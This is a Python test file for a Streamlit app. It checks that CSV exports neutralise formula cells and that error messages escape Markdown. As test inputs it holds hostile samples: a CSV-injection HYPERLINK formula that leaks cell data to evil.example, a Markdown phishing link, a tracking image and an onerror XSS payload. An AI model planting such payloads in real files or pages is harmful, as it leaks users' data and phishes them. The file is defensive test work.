"""Issue 17: downloads and messages that are safe to open — CSV formulas neutralised everywhere, user text never
read as Markdown."""
from __future__ import annotations

import ast
import io
from pathlib import Path

import pandas as pd
from streamlit.testing.v1 import AppTest

from app.exports import frame_csv, matrix_frame
from app.markdown_text import escape_markdown

ROOT = Path(__file__).resolve().parents[2]
CSV_WRITERS = {"frame_csv", "safe_frame_csv"}
HOSTILE_CELL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PHISHING_NAME = "/x/ [Log in again](http://evil.example/login)"
TRACKING_TOKEN = "![t](http://evil.example/t.png)"


def _app_sources():
    for path in sorted([*(ROOT / "app").rglob("*.py"), *(ROOT / "pages").glob("*.py")]):
        if path != ROOT / "app" / "exports.py":
            yield path, ast.parse(path.read_text())


def _called_name(node: ast.AST) -> str | None:
    if isinstance(node, ast.Lambda):
        node = node.body
    if isinstance(node, ast.Call):
        return node.func.id if isinstance(node.func, ast.Name) else getattr(node.func, "attr", None)
    return None


def test_no_page_writes_csv_but_through_the_one_helper():
    offenders, csv_buttons = [], 0
    for path, tree in _app_sources():
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            where = f"{path.relative_to(ROOT)}:{node.lineno}"
            if name == "to_csv":
                offenders.append(f"{where} calls to_csv")
            if name == "download_button":
                if "text/csv" in ast.unparse(node) or ".csv" in ast.unparse(node):
                    csv_buttons += 1
                    data = node.args[1] if len(node.args) > 1 else next(
                        (k.value for k in node.keywords if k.arg == "data"), None)
                    if _called_name(data) not in CSV_WRITERS:
                        offenders.append(f"{where} downloads CSV from {ast.unparse(data) if data else None}")
    assert csv_buttons >= 10  # the scan sees the app's CSV downloads (attention, heads, hidden states, ...)
    assert not offenders, offenders


def test_a_hostile_token_comes_out_neutralised():
    frame = pd.DataFrame({"token": [HOSTILE_CELL, "+1", "-2", "@SUM(A1)", "\t=1", "cat"], "score": [0.5, -0.5, 1, 2, 3, 4]})
    read = pd.read_csv(io.BytesIO(frame_csv(frame)), keep_default_na=False)
    assert list(read["token"]) == ["'" + HOSTILE_CELL, "'+1", "'-2", "'@SUM(A1)", "'\t=1", "cat"]
    assert list(read["score"]) == [0.5, -0.5, 1, 2, 3, 4]  # numbers stay numbers
    matrix = pd.read_csv(io.BytesIO(frame_csv(matrix_frame([[1.0]], [HOSTILE_CELL], [HOSTILE_CELL]), index=True)))
    assert not any(str(cell).startswith(("=", "+", "-", "@")) for cell in [*matrix.columns, *matrix.iloc[:, 0]])


def _unescaped(body: str) -> list[str]:
    """Characters that start a Markdown link or image and are not backslash-escaped."""
    bad, i = [], 0
    while i < len(body):
        if body[i] == "\\":
            i += 2
            continue
        if body[i] in "[]()!<>:":
            bad.append(body[i])
        i += 1
    return bad


def test_escape_markdown_keeps_the_text_and_leaves_nothing_to_render():
    for text in (PHISHING_NAME, TRACKING_TOKEN, "<img src=x onerror=alert(1)>", "www.evil.example *bold* `code`"):
        body = escape_markdown(text)
        assert not _unescaped(body)
        assert body.replace("\\", "") == text.replace("\\", "")


def _error_page():
    import streamlit as st

    from app.guard import shown_errors
    from models.errors import ModelNotFoundError

    PHISHING_NAME = "/x/ [Log in again](http://evil.example/login)"  # AppTest runs this body alone: no globals
    TRACKING_TOKEN = "![t](http://evil.example/t.png)"
    with shown_errors(f"loading {PHISHING_NAME}"):
        raise ModelNotFoundError(f"Folder {PHISHING_NAME} does not exist; token {TRACKING_TOKEN}.")
    with shown_errors("running"):
        raise ValueError(TRACKING_TOKEN)
    st.write("still up")


def test_error_messages_render_no_link_and_no_image():
    at = AppTest.from_function(_error_page, default_timeout=30).run()
    assert not at.exception
    bodies = [e.value for e in at.error]
    assert len(bodies) == 2
    for body in bodies:
        assert "](http" not in body and "![" not in body
        assert not _unescaped(body), body
    assert "Log in again" in bodies[0] and "evil" in bodies[0]  # shown as typed, not dropped
    assert at.markdown[-1].value == "still up"
